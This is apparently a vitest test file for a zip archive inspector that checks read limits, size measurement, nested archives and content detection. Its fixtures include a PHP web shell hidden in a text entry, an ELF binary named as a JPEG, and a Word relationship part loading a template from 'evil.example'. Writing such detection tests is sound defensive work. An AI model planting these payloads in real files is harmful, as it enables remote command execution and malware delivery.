import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import type { ByteSource } from '../../model/types.js';
import { elf, zip } from '../../test-support/bytes.js';
import { DEFAULT_LIMITS } from '../limits.js';
import { inspectArchive } from './index.js';

/** Bytes that do not compress, the same on every run. */
function noise(length: number): Buffer {
  const out = Buffer.alloc(length);
  let block = Buffer.from('seed');
  for (let at = 0; at < length; at += block.length) {
    block = createHash('sha256').update(block).digest();
    block.copy(out, at);
  }
  return out;
}

/** A zip in memory as a ByteSource that counts what is read of it. */
class CountingBytes implements ByteSource {
  bytesRead = 0;
  constructor(private readonly bytes: Buffer) {}
  get size(): number {
    return this.bytes.length;
  }
  async read(position: number, length: number): Promise<Buffer> {
    const piece = Buffer.from(this.bytes.subarray(position, position + length));
    this.bytesRead += piece.length;
    return piece;
  }
  close(): void {}
}

const ZIP = { ext: 'zip', mime: 'application/zip', source: 'signature' } as const;
const MiB = 1024 * 1024;

async function inspect(bytes: Buffer) {
  const source = new CountingBytes(bytes);
  const result = await inspectArchive(source, ZIP, 'a.zip', DEFAULT_LIMITS);
  return { source, result: result! };
}

describe('zip: what is read of an entry', () => {
  it('reads the central directory and the heads of entries, not their data', async () => {
    const entries = Object.fromEntries(
      Array.from({ length: 6 }, (_, i) => [`photo${i}.bin`, { data: noise(MiB), deflate: true }]),
    );
    const { source, result } = await inspect(zip({ ...entries, 'cat.jpg': { data: elf(), deflate: true } }));
    expect(source.size).toBeGreaterThan(6 * MiB);
    expect(source.bytesRead).toBeLessThan(7 * (DEFAULT_LIMITS.maxSniffBytes + 2048) + 64 * 1024);
    expect(result.ctx.entries.find((e) => e.path === 'cat.jpg')?.detected?.ext).toBe('elf');
    // An honest deflated entry is not inflated whole: its real size is left unmeasured.
    expect(result.ctx.entries.find((e) => e.path === 'photo0.bin')?.actualSize).toBeUndefined();
  });

  it('inflates an entry that declares less than its compressed data, and measures it', async () => {
    const { result } = await inspect(
      zip({ 'a.bin': { data: noise(5000), deflate: true, declaredSize: 10 }, 'pad.bin': noise(2 * MiB) }),
    );
    expect(result.ctx.entries.find((e) => e.path === 'a.bin')?.actualSize).toBe(5000);
  });

  it('finds the whole head of a deflated entry whose start compresses worse than its average', async () => {
    // Its sizes promise ~250:1, so the first read is a few hundred compressed bytes; the
    // start (base64, ~4:3) inflates to less than the head, and the read grows until it holds it.
    const start = noise(2992).toString('base64');
    const data = `${start}<?php system($_GET[1]);${' '.repeat(MiB)}`;
    const { result } = await inspect(
      zip({ 'notes.txt': { data, deflate: true }, 'pad.bin': noise(2 * MiB) }),
    );
    expect(start.length).toBeGreaterThan(3900);
    expect(result.ctx.entries.find((e) => e.path === 'notes.txt')?.detected?.ext).toBe('php');
  });

  it('knows a stored entry’s real size from its compressed size, without reading it', async () => {
    const { source, result } = await inspect(zip({ 'a.txt': { data: noise(3 * MiB), declaredSize: 10 } }));
    expect(result.ctx.entries[0]?.actualSize).toBe(3 * MiB);
    expect(source.bytesRead).toBeLessThan(MiB);
  });

  it('reads an archive found by its head whole, and opens it', async () => {
    const inner = zip({ 'x.php': '<?php', 'a.rels': 'x' });
    const { result } = await inspect(
      zip({ 'pad.bin': noise(2 * MiB), 'inner.bin': { data: inner, deflate: true } }),
    );
    expect(result.ctx.entries.map((e) => e.path)).toEqual([
      'pad.bin',
      'inner.bin',
      'inner.bin!x.php',
      'inner.bin!a.rels',
    ]);
  });

  it('reads relationship parts whole for what they load from outside', async () => {
    const rels = `<Relationships>${' '.repeat(8192)}<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>`;
    const { result } = await inspect(
      zip({ 'pad.bin': noise(2 * MiB), 'word/_rels/settings.xml.rels': { data: rels, deflate: true } }),
    );
    expect(result.ctx.active.map((a) => a.kind)).toEqual(['office-external']);
  });
});
